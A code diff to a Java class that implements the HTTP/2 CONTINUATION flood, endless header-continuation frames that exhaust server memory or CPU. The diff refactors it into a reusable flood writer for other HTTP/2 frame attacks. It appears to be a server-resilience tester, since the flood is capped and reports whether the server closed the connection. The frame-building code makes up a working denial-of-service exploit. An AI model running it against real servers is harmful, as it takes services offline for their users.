@@ -9,16 +9,22 @@ import java.nio.charset.StandardCharsets;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicLong;
+import java.util.function.IntFunction;
 
 /**
  * The HTTP/2 CONTINUATION flood (2024, many servers): a HEADERS frame without END_HEADERS, then
  * CONTINUATION frames without end, so a server that buffers or decodes the header block as it grows
  * runs out of memory or CPU. Written as raw frames on an HTTP/2 connection (h2c, or TLS with ALPN
  * h2): the writer goes on until the server closes the connection or {@link #CAP} bytes are sent.
+ * {@link #flood} is the same writer for other frame sequences ({@link MadeYouReset}).
  */
 public final class ContinuationFlood {
   /** Bytes of CONTINUATION frames the flood sends at most; a bounded server stops far earlier. */
   public static final long CAP = 64L << 20;
+
+  /** The client connection preface. */
+  public static final byte[] PREFACE =
+      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
 
   /** How the flood ended. */
   public record Result(boolean closedByServer, boolean goAway, long bytesWritten) {}
@@ -30,6 +36,21 @@ public final class ContinuationFlood {
    * fragmentSize} bytes each (0: empty frames) and reports whether the server closed it.
    */
   public static Result run(Socket socket, int fragmentSize) throws Exception {
+    ByteArrayOutputStream opening = new ByteArrayOutputStream();
+    opening.write(PREFACE);
+    opening.write(frame(4, 0, 0, new byte[0])); // SETTINGS
+    // HEADERS on stream 1, END_STREAM, no END_HEADERS: GET http / (indexed HPACK)
+    opening.write(frame(1, 0x1, 1, new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84}));
+    byte[] continuation = frame(9, 0, 1, new byte[fragmentSize]);
+    return flood(socket, opening.toByteArray(), i -> continuation);
+  }
+
+  /**
+   * Writes {@code opening}, then {@code next.apply(0)}, {@code next.apply(1)}, ... until the server
+   * closes the connection or {@link #CAP} bytes are written, reading all the server sends.
+   */
+  public static Result flood(Socket socket, byte[] opening, IntFunction<byte[]> next)
+      throws Exception {
     socket.setSoTimeout(20_000);
     OutputStream out = socket.getOutputStream();
     InputStream in = socket.getInputStream();
@@ -53,20 +74,17 @@ public final class ContinuationFlood {
         new Thread(
             () -> {
               try {
-                out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
-                out.write(frame(4, 0, 0, new byte[0])); // SETTINGS
-                // HEADERS on stream 1, END_STREAM, no END_HEADERS: GET http / (indexed HPACK)
-                out.write(frame(1, 0x1, 1, new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84}));
-                byte[] continuation = frame(9, 0, 1, new byte[fragmentSize]);
-                while (written.get() < CAP) {
-                  out.write(continuation);
-                  written.addAndGet(continuation.length);
+                out.write(opening);
+                for (int i = 0; written.get() < CAP; i++) {
+                  byte[] b = next.apply(i);
+                  out.write(b);
+                  written.addAndGet(b.length);
                 }
               } catch (IOException e) {
                 // the server closed the connection
               }
             },
-            "continuation-flood");
+            "http2-flood");
     writer.setDaemon(true);
     writer.start();
     byte[] got = received.get(30, TimeUnit.SECONDS);
@@ -76,7 +94,8 @@ public final class ContinuationFlood {
     return new Result(atClose < CAP, hasGoAway(got), atClose);
   }
 
-  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+  /** One HTTP/2 frame: 9-byte header and {@code payload}. */
+  public static byte[] frame(int type, int flags, int stream, byte[] payload) {
     byte[] f = new byte[9 + payload.length];
     f[0] = (byte) (payload.length >>> 16);
     f[1] = (byte) (payload.length >>> 8);
